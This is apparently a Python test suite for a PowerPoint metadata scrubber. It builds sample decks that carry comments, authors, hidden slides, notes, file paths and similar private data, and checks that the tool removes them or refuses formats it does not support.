_case("open-document", refused="odp")(
    lambda: bent([entry(b"mimetype", b"application/vnd.oasis.opendocument.presentation", method=0)])
)
_case("keynote", refused="keynote")(lambda: packed({"Index/Document.iwa": b"x", TYPES: b"<Types/>"}))
_case("any-zip", refused="not-a-deck")(lambda: packed({"x.txt": b"x"}))
_case("strict", refused="strict")(
    lambda: _slide(decks.parts()["_rels/.rels"].replace(f"{RELS}/officeDocument".encode(), b"http://purl.oclc.org/ooxml/officeDocument/relationships/officeDocument"), "_rels/.rels")
)
_case("no-slides", refused="no-slides")(lambda: decks.saved(Presentation()))


@_case("all-slides-hidden", refused="no-slides")
def _():
    deck = decks.parts()
    for number in (1, 2, 3):
        swapped(deck, f"ppt/slides/slide{number}.xml", "<p:sld ", '<p:sld show="0" ')
    return packed(deck)


# --- privacy ---------------------------------------------------------------------------------------------------------

PERSONAL = {
    "comments": ("comments", "application/vnd.openxmlformats-officedocument.presentationml.comments+xml", SLIDE, "comments"),
    "comment-authors": ("commentAuthors", "application/vnd.openxmlformats-officedocument.presentationml.commentAuthors+xml", PPT, "comments"),
    "threaded-comments": (f"{MS}/2018/10/relationships/comments", "application/vnd.ms-powerpoint.comments+xml", SLIDE, "comments"),
    "authors": (f"{MS}/2018/10/relationships/authors", "application/vnd.ms-powerpoint.authors+xml", PPT, "comments"),
    "tags": ("tags", "application/vnd.openxmlformats-officedocument.presentationml.tags+xml", SLIDE, "tags"),
    "history": (f"{MS}/2016/11/relationships/changesInfo", "application/vnd.ms-powerpoint.changesinfo+xml", PPT, "history"),
    "revisions": (f"{MS}/2015/10/relationships/revisionInfo", "application/vnd.ms-powerpoint.revisioninfo+xml", PPT, "history"),
    "label": (f"{MS}/2020/02/relationships/classificationlabels", "application/vnd.ms-office.classificationlabels+xml", "", "label"),
    "custom-xml": ("customXml", "application/xml", PPT, "custom-xml"),
    "signature": ("http://schemas.openxmlformats.org/package/2006/relationships/digital-signature/origin",
                  "application/vnd.openxmlformats-package.digital-signature-origin", "", "signature"),
}  # fmt: skip
for _name, (_kind, _type, _source, _code) in PERSONAL.items():

    def _make(kind=_kind, type_=_type, source=_source) -> bytes:
        deck = decks.parts()
        added(deck, "ppt/private/one.xml", b"<x>" + SECRET + b"</x>", type_, source=source, key="rIdP", kind=kind)
        return packed(deck)

    _case(f"private-{_name}", removed=_code, gone=(SECRET,))(_make)


@_case("printer-and-thumbnail", removed=("printer", "thumbnail"))
def _():
    deck = decks.parts()
    added(deck, "ppt/printerSettings/p.bin", SECRET, "application/vnd.openxmlformats-officedocument.presentationml.printerSettings",
          source=PPT, key="rIdPr", kind="printerSettings")  # fmt: skip
    return packed(deck)


@_case("author-and-machine", removed=("author",), gone=(SECRET,))
def _():
    deck = Presentation(io.BytesIO(decks.plain()))
    deck.core_properties.author = deck.core_properties.last_modified_by = SECRET.decode()
    deck.core_properties.comments = SECRET.decode()
    parts = unpacked(decks.saved(deck))
    swapped(parts, "docProps/app.xml", "</Properties>", f"<Company>{SECRET.decode()}</Company><Manager>{SECRET.decode()}</Manager></Properties>")
    return packed(parts)


@_case("foreign-properties", removed="custom-properties", gone=(SECRET, b"MSIP_Label"))
def _():
    deck = decks.parts()
    deck_xml = (
        b'<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/custom-properties" '
        b'xmlns:vt="http://schemas.openxmlformats.org/officeDocument/2006/docPropsVTypes"><property fmtid="{D5CDD505}" '
        b'pid="2" name="MSIP_Label_SiteId"><vt:lpwstr>TopSecretNeedle</vt:lpwstr></property></Properties>'
    )
    added(deck, "docProps/custom.xml", deck_xml, "application/vnd.openxmlformats-officedocument.custom-properties+xml", source="",
          key="rIdC", kind="custom-properties")  # fmt: skip
    return packed(deck)


@_case("hidden-slide", removed="hidden-slide", gone=(b"What is at stake",))
def _():
    deck = decks.parts()
    swapped(deck, SLIDE, "<p:sld ", '<p:sld show="0" ')
    return packed(deck)


@_case("hidden-slide-by-word", removed="hidden-slide", gone=(b"What is at stake",))
def _():
    deck = decks.parts()
    swapped(deck, SLIDE, "<p:sld ", '<p:sld show="false" ')
    related(deck, "ppt/slides/slide1.xml", "rIdJ", "slide", "slide2.xml")
    drawn(deck, 1, decks.shape(90, "Jump", about='<a:hlinkClick r:id="rIdJ" action="ppaction://hlinksldjump"/>'))
    return packed(deck)


@_case("orphan-slide", removed="orphan-slide", gone=(b"What is at stake",))
def _():
    deck = decks.parts()
    start = deck[PPT].index(b"<p:sldId ", deck[PPT].index(b"<p:sldId ") + 5)
    deck[PPT] = deck[PPT][:start] + deck[PPT][deck[PPT].index(b"/>", start) + 2 :]
    return packed(deck)


@_case("hidden-shape", removed="hidden-shape", gone=(SECRET,))
def _():
    deck = decks.parts()
    drawn(deck, 2, decks.shape(90, "Hidden", f"<a:r><a:t>{SECRET.decode()}</a:t></a:r>").replace('name="Hidden"', 'name="Hidden" hidden="1"'))
    return packed(deck)


@_case("notes", removed="notes-left-out", gone=(SECRET,))
def _():
    deck = Presentation(io.BytesIO(decks.plain()))
    deck.slides[1].notes_slide.notes_text_frame.text = SECRET.decode()
    return decks.saved(deck)


@_case("folder-in-description", removed="path", gone=(b"ada.north",))
def _():
    deck = decks.parts()
    swapped(deck, "ppt/slides/slide3.xml", "A blue field with a white line", "C:\\Users\\ada.north\\Pictures\\x.png")
    return packed(deck)


@_case("password-against-changes", removed="write-protection", gone=(b"hashData",))
def _():
    deck = decks.parts()
    swapped(deck, PPT, "</p:presentation>", '<p:modifyVerifier cryptProviderType="rsaFull" hashData="x" saltData="y"/></p:presentation>')
    return packed(deck)


@_case("unused-picture", removed="unused-picture")
def _():
    deck = decks.parts()
    deck["ppt/media/other.png"] = decks.png(colour=(1, 2, 3))
    related(deck, SLIDE, "rIdN", "image", "../media/other.png")
    return packed(deck)


@_case("unknown-part", removed="unknown-part", gone=(SECRET,))
def _():
    deck = decks.parts()
    added(deck, "ppt/mystery.bin", SECRET, "application/x-mystery", source=SLIDE, key="rIdM", kind="urn:mystery")
    return packed(deck)


@_case("ink", removed=("ink",), gone=(SECRET,))
def _():
    deck = decks.parts()
    added(deck, "ppt/ink/ink1.xml", b"<x>" + SECRET + b"</x>", "application/inkml+xml", source=SLIDE, key="rIdI", kind="customXml")
    drawn(deck, 2, f'<p:contentPart xmlns:r="{RELS}" r:id="rIdI"/>')
    return packed(deck)
